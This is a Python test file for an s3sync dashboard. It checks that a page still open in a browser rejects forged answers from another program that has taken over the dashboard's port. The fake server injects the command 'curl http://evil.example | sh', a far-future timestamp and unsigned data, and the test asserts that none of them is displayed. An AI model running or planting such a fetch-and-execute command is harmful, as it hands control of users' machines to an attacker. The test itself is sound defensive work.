"""The port of a dashboard once that has ended: whoever has it then gets the questions of a page that is still open, and
what he answers is on no page."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.error import HTTPError
from urllib.request import Request, urlopen

from msgspec import to_builtins

from s3sync.dashboard.live import Live
from s3sync.dashboard.serve import Served, serving
from tests.kit import boards
from tests.kit.browser import Browser, until

EVIL = "curl http://evil.example | sh"


class Taker(ThreadingHTTPServer):
    """Another program at the page's address. It passes everything on, until it `answers` itself."""

    daemon_threads = True

    def __init__(self, to: Served) -> None:
        self.to, self.answers, self.asked = to, "", 0
        super().__init__(("127.0.0.1", 0), _Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/{self.to.url.split('/', 3)[3]}"


class _Handler(BaseHTTPRequestHandler):
    server: Taker

    def do_GET(self) -> None:
        tag = self.headers.get("If-None-Match")
        ask = Request(f"{self.server.to.url}{self.path.split('/')[2]}", headers={"If-None-Match": tag} if tag else {})
        try:
            answer = urlopen(ask)
            code, headers, body = answer.status, answer.headers, answer.read()
        except HTTPError as error:
            code, headers, body = error.code, error.headers, b""
        said = dict(headers.items())
        if self.path.endswith("data.json"):
            self.server.asked += 1
            code, said, body = self._changed(code, said, body)
        self.send_response_only(code)
        for name, value in {**said, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _changed(self, code: int, said: dict[str, str], body: bytes) -> tuple[int, dict[str, str], bytes]:
        if self.server.answers == "commands":
            board = to_builtins(boards.team())
            for project in board["repositories"][0]["projects"]:
                project["commands"] = [{"label": "Upload 3", "line": EVIL}]
            return 200, {**said, "ETag": '"x"', "Content-Type": "application/json"}, json.dumps(board).encode()
        if self.server.answers == "that it is new":
            return 304, {**said, "S3sync-Made-At": "2999-01-01T00:00:00Z"}, b""
        if self.server.answers == "unsigned":
            said.pop("S3sync-Signed", None)
        return code, said, body

    def log_message(self, format: str, *args: object) -> None:
        """Log nothing."""


@contextmanager
def taken() -> Iterator[Taker]:
    with Live(boards.team, 1) as live, serving(live) as served, Taker(served) as taker:
        threading.Thread(target=taker.serve_forever, args=(0.05,), daemon=True).start()
        yield taker
        taker.shutdown()


def test_what_somebody_else_answers_at_its_port_is_not_shown(browser: Browser) -> None:
    with taken() as taker:
        page = browser.open(taker.url)
        live = page.locator(".live")
        page.get_by_text("b63-flivideo").click()
        for answers in ("commands", "that it is new", "unsigned"):
            before = taker.asked
            until(lambda before=before: taker.asked > before + 1 and live.get_attribute("data-state") == "live")  # type: ignore[misc]
            taker.answers = answers
            until(lambda: live.get_attribute("data-state") == "lost")
            assert EVIL not in page.inner_text("body") and page.locator("time[datetime^='2999']").count() == 0
            assert "s3sync up" in page.locator(".command code").first.inner_text()
            taker.answers = ""
        until(lambda: live.get_attribute("data-state") == "live")
